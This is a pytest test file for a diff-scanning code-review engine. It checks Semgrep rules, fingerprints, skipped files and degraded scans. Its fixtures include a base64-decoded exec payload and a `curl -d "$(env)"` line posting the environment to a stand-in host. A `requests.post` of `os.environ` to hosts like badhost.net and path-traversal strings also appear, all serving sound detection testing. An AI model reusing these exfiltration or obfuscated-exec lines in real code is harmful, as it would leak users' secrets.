"""The engine over small changes, with a tiny rule pack of the tests' own."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from reviewer.core.analyzers.base import AnalyzerOutput, ScanOptions
from reviewer.core.analyzers.semgrep import SemgrepAnalyzer
from reviewer.core.changeset import ChangeSet
from reviewer.core.diff import parse_diff, parse_file_patch
from reviewer.core.engine import scan
from reviewer.core.findings import Severity, SkipReason, fingerprint

RULES = Path(__file__).parent / "fixtures" / "rules"


def semgrep() -> SemgrepAnalyzer:
    return SemgrepAnalyzer(rules_dir=RULES)


def new_file(path: str, body: str) -> bytes:
    lines = body.split("\n")[:-1] if body.endswith("\n") else body.split("\n")
    hunk = "".join(f"+{ln}\n" for ln in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
        f"@@ -0,0 +1,{len(lines)} @@\n{hunk}"
    ).encode()


PAYLOAD = "import base64\n\nexec(base64.b64decode('cHJpbnQoMSk='))\n"


def test_finding_on_added_line_with_reviewer_message_and_fingerprint():
    result = scan(parse_diff(new_file("src/run.py", PAYLOAD)), analyzers=[semgrep()])
    (f,) = [f for f in result.findings if f.rule_id == "test-py-exec-decoded"]
    assert (f.path, f.start_line, f.severity) == ("src/run.py", 3, Severity.HIGH)
    assert f.category == "obfuscated-exec" and "base64" in f.evidence
    assert f.fingerprint == fingerprint("test-py-exec-decoded", "src/run.py", f.evidence)
    assert not result.degraded


def test_semgrep_runs_once_for_many_files_and_tests_folders_are_scanned():
    diff = b"".join(
        new_file(p, PAYLOAD) for p in ("a.py", "tests/test_x.py", "node_modules/x.py", "d/e.py")
    )
    analyzer = semgrep()
    calls = []
    original = analyzer.command

    def counting(*args):
        calls.append(args)
        return original(*args)

    analyzer.command = counting  # type: ignore[method-assign]
    result = scan(parse_diff(diff), analyzers=[analyzer])
    assert len(calls) == 1
    assert {f.path for f in result.findings} == {
        "a.py",
        "tests/test_x.py",
        "node_modules/x.py",
        "d/e.py",
    }


def test_only_added_lines_count():
    base = "import base64\nexec(base64.b64decode('eA=='))\n"
    head = base + "x = 1\n"
    change = parse_file_patch("m.py", None, head_text=head, base_text=base)
    result = scan(ChangeSet(files=(change,)), analyzers=[semgrep()])
    assert result.findings == []


def test_nosemgrep_comment_in_the_change_does_not_silence():
    body = "import base64\nexec(base64.b64decode('eA=='))  # nosemgrep\n"
    result = scan(parse_diff(new_file("x.py", body)), analyzers=[semgrep()])
    assert [f.rule_id for f in result.findings] == ["test-py-exec-decoded"]


def test_finding_that_existed_at_base_is_not_new_even_when_it_moved():
    base = "import base64\nexec(base64.b64decode('eA=='))\n"
    head = "# a new comment\nimport base64\n\nexec(base64.b64decode('eA=='))\n"
    change = parse_file_patch("m.py", None, head_text=head, base_text=base)
    # make the moved line count as added, as a rewritten file would
    change = dataclasses.replace(change, added={n: ln for n, ln in enumerate(head.splitlines(), 1)})
    cs = ChangeSet(files=(change,), has_base=True)
    assert scan(cs, analyzers=[semgrep()]).findings == []
    cs_without_base = ChangeSet(
        files=(dataclasses.replace(change, base_text=None),), has_base=False
    )
    assert len(scan(cs_without_base, analyzers=[semgrep()]).findings) == 1


def test_binary_and_too_large_files_are_reported_not_silently_skipped():
    big = "x = 1\n" * 50_000
    diff = new_file("huge.py", big) + (
        b"diff --git a/lib.so b/lib.so\nnew file mode 100644\nindex 0000000..1111111\n"
        b"Binary files /dev/null and b/lib.so differ\n"
    )
    result = scan(
        parse_diff(diff), options=ScanOptions(max_file_bytes=100_000), analyzers=[semgrep()]
    )
    reasons = {s.path: s.reason for s in result.skipped}
    assert reasons == {"huge.py": SkipReason.TOO_LARGE, "lib.so": SkipReason.BINARY}


def test_semgrep_errors_mean_degraded_analysis():
    broken = "def f(:\n  exec(base64.b64decode('eA=='))\n}}}}((((\n"
    result = scan(parse_diff(new_file("broken.py", broken)), analyzers=[semgrep()])
    assert result.degraded
    assert any("broken.py" in e for e in result.errors)


def test_a_failing_analyzer_degrades_the_scan_but_others_still_report():
    class Broken:
        name = "broken"

        def analyze(self, files, ctx) -> AnalyzerOutput:
            raise RuntimeError("boom")

    result = scan(parse_diff(new_file("a.py", PAYLOAD)), analyzers=[Broken(), semgrep()])
    assert result.degraded and "broken" in result.errors[0]
    assert [f.rule_id for f in result.findings] == ["test-py-exec-decoded"]


def test_disabled_rules_and_ignored_paths():
    cs = parse_diff(new_file("a.py", PAYLOAD) + new_file("vendor/b.py", PAYLOAD))
    opts = ScanOptions(ignore_paths=("vendor/*",))
    result = scan(cs, options=opts, analyzers=[semgrep()])
    assert [f.path for f in result.findings] == ["a.py"]
    assert any(s.path == "vendor/b.py" and s.reason is SkipReason.IGNORED for s in result.skipped)
    opts = ScanOptions(disabled_rules=frozenset({"test-py-exec-decoded"}))
    assert scan(cs, options=opts, analyzers=[semgrep()]).findings == []


@pytest.mark.parametrize(
    "path", ["../../etc/passwd.py", "/abs/x.py", "a\\..\\..\\b.py", "we\x01ird/../x.py"]
)
def test_hostile_paths_stay_data(path, tmp_path):
    result = scan(parse_diff(new_file("ok.py", "x = 1\n")), analyzers=[semgrep()])
    assert not result.degraded
    from reviewer.core.scan_tree import write_targets

    tree = write_targets(tmp_path, {path: PAYLOAD}, analyzer="semgrep")
    (written,) = tree.names
    assert (tmp_path / written).resolve().is_relative_to(tmp_path.resolve())
    assert tree.names[written] == path


def test_a_batch_gives_each_change_what_a_scan_of_it_alone_gives():
    from reviewer.core.engine import scan_many

    changes = [
        parse_diff(new_file("a.py", PAYLOAD)),
        parse_diff(new_file("a.py", "x = 1\n")),  # same path in another change: no collision
        parse_diff(
            new_file(
                "tests/b.py", "import os\nfor k, v in os.environ.items():\n    pass\n" + PAYLOAD
            )
        ),
        parse_diff(b""),
    ]
    batch = scan_many(changes, analyzers=[semgrep()])
    alone = [scan(c, analyzers=[semgrep()]) for c in changes]
    assert [[f.to_dict() for f in r.findings] for r in batch] == [
        [f.to_dict() for f in r.findings] for r in alone
    ]
    assert [len(r.findings) for r in batch] == [1, 0, 2, 0]


def test_minified_and_extensionless_files_reach_semgrep(tmp_path):
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "generic.yml").write_text(
        "rules:\n"
        "  - id: test-generic-env-post\n"
        "    languages: [generic]\n"
        "    severity: ERROR\n"
        "    message: Sends the environment.\n"
        "    metadata: {category: exfiltration, severity: high, confidence: high}\n"
        '    pattern: curl -d "$(env)"\n'
        "  - id: test-js-eval\n"
        "    languages: [javascript]\n"
        "    severity: ERROR\n"
        "    message: Evaluates a string.\n"
        "    metadata: {category: obfuscated-exec, severity: high, confidence: high}\n"
        "    pattern: eval(...)\n"
    )
    diff = (
        new_file("dist/bundle.min.js", "var a=1;eval(atob('eA=='));\n")
        + new_file("scripts/uploader", 'echo start\ncurl -d "$(env)" https://collector.invalid/u\n')
        + new_file("README", 'curl -d "$(env)" is what an attacker would write\n')
    )
    result = scan(parse_diff(diff), analyzers=[SemgrepAnalyzer(rules_dir=rules)])
    assert {(f.rule_id, f.path) for f in result.findings} == {
        ("test-js-eval", "dist/bundle.min.js"),
        ("test-generic-env-post", "scripts/uploader"),
    }


def test_line_numbers_hold_after_unicode_line_separators():
    """U+2028, U+0085 and form feeds inside a line are not line breaks for git or for us."""
    from reviewer.core.findings import Confidence, Finding

    class ExecLines:
        name = "exec-lines"

        def analyze(self, files, ctx) -> AnalyzerOutput:
            return AnalyzerOutput(
                findings=[
                    Finding(
                        "t-exec",
                        "remote-code-exec",
                        Severity.HIGH,
                        Confidence.HIGH,
                        f.path,
                        n,
                        n,
                        "m",
                        evidence=line,
                    )
                    for f in files
                    for n, line in enumerate(f.lines(), 1)
                    if "exec(" in line
                ]
            )

    body = "import base64\nnote = 'a\u2028b\u0085c\x0cd'\nexec(base64.b64decode('eA=='))\n"
    (f,) = scan(parse_diff(new_file("sep.py", body)), analyzers=[ExecLines()]).findings
    assert (f.start_line, f.evidence) == (3, "exec(base64.b64decode('eA=='))")


def _modified(path: str, start: int, added: list[str]) -> bytes:
    """A diff that adds lines in the middle of an existing file (only the hunk is known)."""
    body = "".join(f"+{ln}\n" for ln in added)
    return (
        f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n"
        f"@@ -{start},0 +{start},{len(added)} @@\n{body}"
    ).encode()


def test_a_fragment_rebuilt_from_hunks_that_does_not_parse_is_listed_not_degraded():
    # Lines added inside a function whose opening the diff does not show: only a fragment.
    fragment = ["        )", "        exec(base64.b64decode(blob))", "    elif (mode:"]
    result = scan(parse_diff(_modified("svc/run.py", 40, fragment)), analyzers=[semgrep()])
    assert not result.degraded and result.errors == []
    (skipped,) = [s for s in result.skipped if s.path == "svc/run.py"]
    assert skipped.reason in (SkipReason.PARTLY_PARSED, SkipReason.UNPARSABLE)
    assert "rebuilt from the diff's hunks" in skipped.detail and "gatehouse-" not in skipped.detail


def test_a_whole_file_that_does_not_parse_still_degrades_the_scan():
    broken = "def f(:\n  exec(base64.b64decode('eA=='))\n}}}}((((\n"
    change = parse_file_patch(
        "svc/run.py", "@@ -1,0 +1,1 @@\n+}}}}((((\n", status="modified", head_text=broken
    )
    result = scan(ChangeSet(files=(change,), has_head=True), analyzers=[semgrep()])
    assert result.degraded and any("svc/run.py" in e for e in result.errors)


def _exfil_line(host: str) -> str:
    # The destination is named only after the 160th character, where evidence is clipped.
    return (
        "    requests.post(os.environ.get('METRICS_URL_" + "X" * 120 + f"', 'https://{host}/v1'), "
        "json=dict(os.environ))"
    )


def _base_and_head(base: str, head: str, path: str = "app/sync.py") -> ChangeSet:
    change = parse_file_patch(path, None, status="modified", head_text=head, base_text=base)
    return ChangeSet(files=(change,), has_base=True, has_head=True)


def test_a_flagged_line_changed_after_its_160th_character_is_a_new_finding():
    from reviewer.core.analyzers.endpoints import EndpointAnalyzer

    top = "import os\nimport requests\n\n\ndef push():\n"
    base = top + _exfil_line("metrics.acmecorp.io") + "\n"
    assert _exfil_line("metrics.acmecorp.io").index("https://") > 160
    moved = scan(
        _base_and_head(
            base, "# a comment\n" + top + "    " + _exfil_line("metrics.acmecorp.io") + "\n"
        ),
        analyzers=[EndpointAnalyzer()],
    )
    assert [
        f.rule_id for f in moved.findings if f.rule_id == "endpoint-exfiltration"
    ] == []  # same code
    changed = scan(
        _base_and_head(base, top + _exfil_line("collect.badhost.net") + "\n"),
        analyzers=[EndpointAnalyzer()],
    )
    (f,) = [f for f in changed.findings if f.rule_id == "endpoint-exfiltration"]
    assert (
        f.start_line == 6 and "badhost" not in f.evidence
    )  # the clip hides it; the fingerprint does not


def test_fingerprints_hash_the_whole_code_and_unicode_spaces_count():
    from reviewer.core.findings import normalise_code

    long_a, long_b = "x = '" + "a" * 300 + "1'", "x = '" + "a" * 300 + "2'"
    assert fingerprint("r", "p", long_a) != fingerprint("r", "p", long_b)
    assert fingerprint("r", "p", "if  a:\n\tb()") == fingerprint("r", "p", "if a: b()")
    assert normalise_code("cmd = 'rm\u00a0-rf'") != normalise_code("cmd = 'rm -rf'")


def test_a_binary_file_is_fingerprinted_by_its_bytes():
    from reviewer.core.analyzers.blobs import BlobAnalyzer
    from reviewer.core.changeset import FileChange, FileStatus

    def tool(digest: str) -> ChangeSet:
        return ChangeSet(
            files=(
                FileChange(
                    path="bin/tool", status=FileStatus.ADDED, binary=True, content_sha256=digest
                ),
            )
        )

    (one,) = scan(tool("1" * 64), analyzers=[BlobAnalyzer()]).findings
    (same,) = scan(tool("1" * 64), analyzers=[BlobAnalyzer()]).findings
    (other,) = scan(tool("2" * 64), analyzers=[BlobAnalyzer()]).findings
    assert one.rule_id == "blob-binary-executable"
    assert one.fingerprint == same.fingerprint != other.fingerprint
